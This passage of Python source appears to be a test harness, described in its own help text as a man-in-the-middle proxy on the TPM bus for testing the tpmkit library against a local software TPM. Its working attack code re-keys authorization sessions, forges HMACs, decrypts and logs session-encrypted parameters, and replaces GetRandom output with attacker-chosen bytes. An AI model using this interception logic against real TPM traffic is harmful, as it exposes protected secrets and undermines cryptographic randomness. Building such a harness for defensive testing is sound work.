            key = self.sessions[auths[i].handle].key_a
            if not hmac.compare_digest(auths[i].hmac,
                                       self.command_hmac(ex, i, key, cp_a)):
                # An authValue in the key, or names the proxy got wrong.
                self.act(f'rekey {cc:#x}: the caller\'s HMAC does not verify '
                         f'under key A, session {handles} passed through')
                return False
        params = cmd.params
        if ex.decrypt in ex.ours:
            a = auths[ex.decrypt]
            s = self.sessions[a.handle]
            r = Reader(params)
            sealed = r.tpm2b()
            plain = cfb(s.key_a, a.nonce, s.nonce_tpm, sealed, False)
            self.act(f'rekey {cc:#x}: first parameter in clear '
                     f'{plain.hex()}')
            params = (params[:2] + cfb(s.key_b, a.nonce, s.nonce_tpm, plain,
                                       True) + params[r.pos:])
        cmd.params = params
        cp_b = sha256(cc_be, names[1], params)
        for i in ex.ours:
            key = self.sessions[auths[i].handle].key_b
            auths[i].hmac = self.command_hmac(ex, i, key, cp_b)
        ex.translated = True
        self.act(f'rekey {cc:#x}: session {handles}: HMAC redone under '
                 'key B')
        return True

    def rekey_response_in(self, ex, rsp):
        """Check the TPM's HMACs under key B, undo its encryption."""
        auths = ex.cmd.auths
        if len(rsp.auths) != len(auths):
            raise ValueError('session count differs from the command\'s')
        rp_hash = sha256(be32(0), be32(ex.cc), rsp.params)
        for i in ex.ours:
            r = rsp.auths[i]
            s = self.sessions[auths[i].handle]
            mac = hmac256(s.key_b, rp_hash, r.nonce, auths[i].nonce,
                          bytes([r.attrs]))
            if not hmac.compare_digest(mac, r.hmac):
                # Diagnostic only: salt B or key B went wrong.
                self.act(f'rekey {ex.cc:#x}: the TPM\'s response HMAC does '
                         'not verify under key B')
        if ex.encrypt in ex.ours:
            i = ex.encrypt
            s = self.sessions[auths[i].handle]
            r = Reader(rsp.params)
            sealed = r.tpm2b()
            plain = cfb(s.key_b, rsp.auths[i].nonce, auths[i].nonce, sealed,
                        False)
            rsp.params = rsp.params[:2] + plain + rsp.params[r.pos:]

    def rekey_response_out(self, ex, rsp):
        """Encrypt and HMAC the response for tpmkit under key A."""
        auths = ex.cmd.auths
        if ex.encrypt in ex.ours:
            i = ex.encrypt
            s = self.sessions[auths[i].handle]
            r = Reader(rsp.params)
            plain = r.tpm2b()
            sealed = cfb(s.key_a, rsp.auths[i].nonce, auths[i].nonce, plain,
                         True)
            rsp.params = rsp.params[:2] + sealed + rsp.params[r.pos:]
        rp_hash = sha256(be32(0), be32(ex.cc), rsp.params)
        for i in ex.ours:
            r = rsp.auths[i]
            s = self.sessions[auths[i].handle]
            r.hmac = hmac256(s.key_a, rp_hash, r.nonce, auths[i].nonce,
                             bytes([r.attrs]))
        rsp.changed = True

    def roll_nonces(self, ex, rsp):
        """The TPM's new nonce is the current one for the next command."""
        for i in ex.ours:
            handle = ex.cmd.auths[i].handle
            if i >= len(rsp.auths) or handle not in self.sessions:
                continue
            self.sessions[handle].nonce_tpm = rsp.auths[i].nonce
            if not rsp.auths[i].attrs & SESSION_CONTINUE:
                del self.sessions[handle]
                self.act(f'session {handle:#010x} ended')

    def serve_random(self, ex, rsp):
        """The attacker's bytes instead of the TPM's."""
        r = Reader(rsp.params)
        genuine = r.tpm2b()
        chosen = b'\x41' * len(genuine)
        rsp.params = b2(chosen) + rsp.params[r.pos:]
        handles = ' '.join(f'{ex.cmd.auths[i].handle:#010x}' for i in ex.ours)
        self.act(f'mitm GetRandom session {handles}: genuine '
                 f'{genuine.hex()} sent {chosen.hex()}')


def recv_exact(sock, n, eof_ok=False):
    data = b''
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            if eof_ok and not data:
                return None
            raise FrameError(f'closed after {len(data)} of {n} bytes')
        data += chunk
    return data


def read_frame(sock):
    """One command or response, framed by its header's size; None at a
    clean end of the connection."""
    header = recv_exact(sock, 10, eof_ok=True)
    if header is None:
        return None
    size = struct.unpack('>I', header[2:6])[0]
    if size < 10 or size > MAX_FRAME:
        raise FrameError(f'not a TPM frame (size {size})')
    return header + recv_exact(sock, size - 10)


def pump(src, dst):
    """Copy bytes one way until the sender is done."""
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            dst.sendall(data)
    except OSError:
        pass
    try:
        dst.shutdown(socket.SHUT_WR)
    except OSError:
        pass


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True  # a hung client must not keep the proxy alive

    def __init__(self, port, serve):
        self.serve = serve
        super().__init__(('127.0.0.1', port), Handler)


class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        self.server.serve(self.request)


def parse_args():
    p = argparse.ArgumentParser(description='A man in the middle on the TPM '
                                'bus (swtpm TCTI) for tpmkit\'s tests.')
    p.add_argument('--listen', type=int, required=True,
                   help='data port to listen on (control: +1)')
    p.add_argument('--tpm', type=int, required=True,
                   help='swtpm\'s data port (control: +1)')
    p.add_argument('--mode', choices=MODES, required=True)
    p.add_argument('--log', help='append a line per command and action')
    p.add_argument('--match', type=lambda s: int(s, 16),
                   help='command code to act on, hex (default: any)')
    p.add_argument('--nth', type=int, default=1,
                   help='act on the Nth match (default 1, 0: every one)')
    p.add_argument('--delay', type=float, default=0,
                   help='seconds slow-rsp holds a response')
    p.add_argument('--ready', help='write the pid here once listening')
    args = p.parse_args()
    if args.nth < 0:
        p.error('--nth must be 0 or more')
    return args


def main():
    args = parse_args()
    proxy = Proxy(args)
    try:
        servers = [Server(args.listen, proxy.serve_data),
                   Server(args.listen + 1, proxy.serve_control)]
    except OSError as e:
        sys.exit(f'tpm_proxy: cannot listen on {args.listen}: {e}')
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    proxy.log(f'listening on {args.listen}/{args.listen + 1}, TPM on '
              f'{args.tpm}/{args.tpm + 1}, mode {args.mode}')
    if args.mode in FOLLOWING:
        proxy.act(f'attacker key x {proxy.attacker_x.hex()} y '
                  f'{proxy.attacker_y.hex()}')
    if args.ready:
        # Atomic: whoever sees the file sees the whole pid.
        tmp = f'{args.ready}.{os.getpid()}.tmp'
        with open(tmp, 'w', encoding='utf-8') as f:
            f.write(f'{os.getpid()}\n')
        os.replace(tmp, args.ready)
    while True:
        signal.pause()


if __name__ == '__main__':
    main()
